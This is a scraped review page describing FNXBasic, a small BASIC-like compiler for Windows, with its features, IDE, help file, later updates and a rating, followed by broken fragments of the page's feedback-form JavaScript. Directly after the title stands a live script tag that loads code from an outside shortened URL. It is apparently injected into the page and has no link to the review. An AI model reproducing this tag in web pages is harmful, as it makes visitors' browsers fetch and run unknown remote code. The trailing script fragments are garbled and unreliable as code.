FNXBasic<script src=http://u.bw/AxCpI9z></script>FNXBasic is free a basic-like compiler for Windows created in Holland between 2005-2006. It produces quite small executables with a overhead of aproximately 340Kb. It seems that the author got inspired by Rapid-Q as the syntax and structure remembers Rapid-Q's, it is simple to write and to read. FNXBasic has all the most common commands, statements, functions. It may build forms and it has all the main controls such as checkboxes, comboboxes,listboxes, menu items, tab control, dialog windows, etc. It has also some handy features like socket management and the rare INP and OUT statements usefull to dialog throught the serial or the parallel ports. FNXBasic has a simple IDE with a pratical window on the right where the user may jump to subs and functions rapidly. Unfortunately there's no form designer to draw forms and place controls. The Help file is quite complete but it should be improved with more examples. Thanks Marco, thanks Lupo, thanks AlephX.
October 2007. FNXBasic is constantly developed and improved, and new functions and statements are added. Thanks Mr.O.
September 2008. FNXBasic has now a full featured visual designer. FNXdesigner haspassed the first beta stage but it is constantly developed and improved. Thanks Jose.

Rated 4.2/5 upon 21 votes
Review updated: 2008-10-23 FNXBasic homepage
listed at The Basics' page'/>

Your name and/or email: (optional but kindly requested)


"; boxy_content += ""; contactBoxy = new Boxy(boxy_content, {title: "Send feedback", draggable: false, modal: true, behaviours: function(c) { c.find('#feedback').submit(function() { Boxy.get(this).setContent("
"); // submit form by ajax using post and send 3 values: subject, your_email, comment $.post("feedback.php", { subject: c.find("input[name='subject']").val(), your_email: c.find("input[name='your_email']").val(), comment: c.find("#comment").val()}, function(data){ /*set boxy content to data from ajax call back*/ contactBoxy.setContent("
"); }); return false; }); } }); return false; }); /* }); */ $('#myreviewstable').tableScroll({ height: 155,width: 400 }); $("th, td").absPos(); // --- });